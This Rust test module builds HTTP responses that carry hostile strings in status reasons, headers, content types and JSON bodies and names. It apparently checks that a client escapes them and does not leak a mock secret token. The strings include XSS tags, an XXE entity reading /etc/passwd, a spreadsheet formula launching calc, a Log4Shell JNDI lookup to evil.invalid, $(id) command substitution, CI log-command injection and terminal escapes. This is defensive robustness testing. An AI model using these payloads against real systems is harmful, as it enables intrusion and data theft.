//! Texts that would break what shows them, in every field that a server can fill.

use crate::zoo::Manner::Says;
use crate::zoo::{CONFORMS, GREEN, Manner, Row, Said, row, rows_apart, unjudged, violates, whole, with};

/// Texts that break something, by what they break. None has a character that can't stand in a header.
const BREAKERS: [(&str, &str); 8] = [
    ("a terminal", "\u{9b}31m\u{85}\u{9d}0;x\u{9c} \u{202e}\u{2066}\u{200f}\u{61c}\u{feff}"),
    (
        "HTML",
        "</script><script>alert(1)</script><img src=x onerror=alert(1)><!-- <b onclick=x> \" ' &#0; </title></style>",
    ),
    (
        "a job",
        "::error::gone %0A::add-mask::e %0D::stop-commands::x ##[add-mask]e ##vso[task.complete]x ::set-output name=a::b",
    ),
    (
        "XML",
        "]]> <![CDATA[ <?xml ?> &lt; &amp; &nothing; \u{fffe}\u{ffff} <!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>",
    ),
    (
        "Markdown",
        "| a | `b` ```` </details></summary> [link](http://evil.invalid) ![p](http://evil.invalid/p) @everyone #1 <b> * _x_ ~~~",
    ),
    ("TAP", "# TODO # SKIP \\# not ok 99 - x 1..0 Bail out! --- ... {a: [b, \"c"),
    ("a table", "=cmd|' /C calc'!A0,+1;\"a\"\"b\t-1 @SUM(1)"),
    ("a format", "{0} %s %n ${jndi:ldap://evil.invalid/a} {{ann.token}} {{7*7}} $(id) `id` \\u0000 \\x1b[2J"),
];

/// What can't stand in a header, and can in a body.
const UNSPEAKABLE: &str = "\u{0}\u{1b}[2J\u{1b}]0;x\u{7}\r\u{8}\n::error::gone\n  ::add-mask::e\n##[group]x\n...\n---\nnot ok 99\n\
                           \u{b}\u{c}\u{7f}\u{2028}::warning::x\u{2029}\u{85}\n</details>\n| a |\n# x\n```\n";

pub(crate) fn rows() -> Vec<Row> {
    let mut rows = Vec::new();
    for (what, text) in BREAKERS {
        let everything = format!("{text} {UNSPEAKABLE} {text}");
        let quoted = serde_json::to_string(&everything).expect("JSON");
        let raw = everything.replace(['"', '\\'], "'");
        let says = |status: &str, headers: &str, body: &[u8]| {
            Says(with(status, &format!("connection: close\r\n{headers}"), body))
        };
        let typed = "content-type: application/json\r\n";
        let fields: [(&str, Manner, Said); 7] = [
            ("a reason", says(&format!("400 {text}"), typed, GREEN), violates("the status is 400")),
            ("the value of a header", says("200 OK", &format!("{typed}x-a: {text}\r\n"), GREEN), violates("x-a")),
            (
                "a content type",
                says("200 OK", &format!("content-type: text/html; a={text}\r\n"), GREEN),
                violates("content-type"),
            ),
            ("a value", Says(whole(format!("{{\"tea\":{quoted}}}").as_bytes())), violates("`/tea` is not as expected")),
            (
                "a name",
                Says(whole(format!("{{{quoted}:1,{quoted}:{{{quoted}:2}}}}").as_bytes())),
                violates("stands twice"),
            ),
            (
                "a body",
                says("200 OK", &format!("{typed}content-language: {text}\r\n"), everything.as_bytes()),
                violates("not JSON"),
            ),
            (
                "a text that isn't escaped",
                Says(whole(format!("{{\"tea\":\"{raw}\"}}").as_bytes())),
                violates("not JSON"),
            ),
        ];
        rows.extend(
            fields.into_iter().map(|(field, manner, said)| row(format!("{field} that breaks {what}"), manner, said)),
        );
    }
    rows.extend(names());
    rows
}

/// What can't stand in a field; the raw transport sees it beside the others.
const FIELD: Said = unjudged("the head is not HTTP/1.1: invalid header ");

/// What can't be a header, as one; and what can, though nobody thinks of it.
fn names() -> Vec<Row> {
    let says = |bytes: Vec<u8>| Says(bytes);
    let typed = "content-type: application/json\r\nconnection: close\r\n";
    vec![
        row(
            "a name with everything that a name may have",
            says(with("200 OK", &format!("{typed}x-|`%0a#&'*~!$^_+.: a\r\n"), GREEN)),
            CONFORMS,
        ),
        rows_apart(
            "a name with a terminal's escapes",
            says(with("200 OK", &format!("{typed}x-\x1b[2J: a\r\n"), GREEN)),
            FIELD,
            CONFORMS,
        ),
        rows_apart(
            "a name that is no ASCII",
            says(with("200 OK", &format!("{typed}x-\u{202e}\u{9b}: a\r\n"), GREEN)),
            FIELD,
            CONFORMS,
        ),
        rows_apart(
            "a value with a terminal's escapes",
            says(with("200 OK", &format!("{typed}x-b: \x1b[2J\x07\r\n"), GREEN)),
            FIELD,
            CONFORMS,
        ),
        row("a reason with a terminal's escapes", says(with("200 \x1b]0;x\x07", typed, GREEN)), unjudged("")),
        row(
            "a value with the secret",
            says(with("200 OK", &format!("{typed}x-b: token-of-ann-5f1c\r\n"), GREEN)),
            violates("leaks"),
        ),
        row("a reason with the secret", says(with("400 token-of-ann-5f1c", typed, GREEN)), violates("400")),
        row(
            "a name with the secret",
            says(with("200 OK", &format!("{typed}token-of-ann-5f1c: a\r\n"), GREEN)),
            violates("leaks"),
        ),
        row("a body with the secret", Says(whole(b"{\"tea\":\"token-of-ann-5f1c\"}")), violates("leaks")),
        row("a member with the secret", Says(whole(b"{\"tea\":\"green\",\"token-of-ann-5f1c\":1}")), violates("leaks")),
        row(
            "a header a thousand times",
            says(with("200 OK", &(typed.to_owned() + &"x-b: c\r\n".repeat(1000)), GREEN)),
            unjudged("more than 100 fields"),
        ),
    ]
}
